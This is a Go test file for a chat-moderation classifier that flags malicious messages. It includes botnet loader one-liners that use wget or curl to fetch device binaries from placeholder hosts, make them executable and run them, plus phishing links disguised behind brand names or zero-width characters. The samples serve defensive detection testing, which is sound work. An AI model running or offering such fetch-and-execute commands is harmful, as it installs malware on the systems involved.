package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestBareBuildFetchedByShell (rev38c): a device build named for its
// processor alone, typed with no scheme after wget or curl on its line
// (a botnet's loader line), is fetched over plain HTTP, not read as
// over TLS: flagged (warned at least) as the same line written http://
// is. The same build
// name typed bare outside a fetch keeps dl38's reading of its https://
// twin.
func TestBareBuildFetchedByShell(t *testing.T) {
	t.Parallel()
	checkLevels(t, true, []levelCase{
		{"cd /tmp; wget botnet-cdn.xyz/bins/x86; chmod 777 x86; ./x86", bot.Warn},
		{"cd /tmp; wget http://botnet-cdn.xyz/bins/x86; chmod 777 x86; ./x86", bot.Warn},
		{"wget kitcdn.top/mips; chmod +x mips; ./mips", bot.Warn},
		{"cd /tmp && curl -O kitcdn.top/arm7 && chmod +x arm7 && ./arm7", bot.Warn},
		// not flagged
		{"rustup for windows on arm: win.rustup.rs/aarch64", bot.Allow},
		{"rustup for windows win.rustup.rs/x86_64", bot.Allow},
	})
}

// TestLinkBehindBrandOrNothing (rev38c): a link carried behind a brand's
// name ("PayPal", "MetaMask") or behind nothing to read (a zero-width
// space) does not earn carry38's reliefs for a link behind a plain
// word: a self-hosted sign-in on a cheap ending behind "PayPal" is
// flagged as it was before carry38, and behind "here" it is allowed.
func TestLinkBehindBrandOrNothing(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	const jelly = "https://jelly.bitsandbytes.site/web/index.html#!/login.html"
	cases := []struct {
		text, word string
		flagged    bool
	}{
		{"jellyfin PayPal", "PayPal", true},
		{"jellyfin MetaMask", "MetaMask", true},
		{"jellyfin \u200b", "\u200b", true},
		{"jellyfin \u2800", "\u2800", true},
		// a plain word: allowed (carry38)
		{"jellyfin here", "here", false},
		{"jellyfin, my server", "my server", false},
	}
	for _, tc := range cases {
		m := bot.Message{ID: "x", Platform: bot.Discord, Chat: "c", User: "u", Time: t0, Text: tc.text,
			Links: []bot.LinkRef{{Text: tc.word, URL: jelly}}, MemberSince: t0.AddDate(-1, 0, 0)}
		if v := c.Classify(&m, bot.Hints{}).Verdict; (v.Level != bot.Allow) != tc.flagged {
			t.Errorf("%q [%q](%s): %s %.2f %v, want flagged %v", tc.text, tc.word, jelly, v.Level, v.Score, v.Reasons, tc.flagged)
		}
	}
}
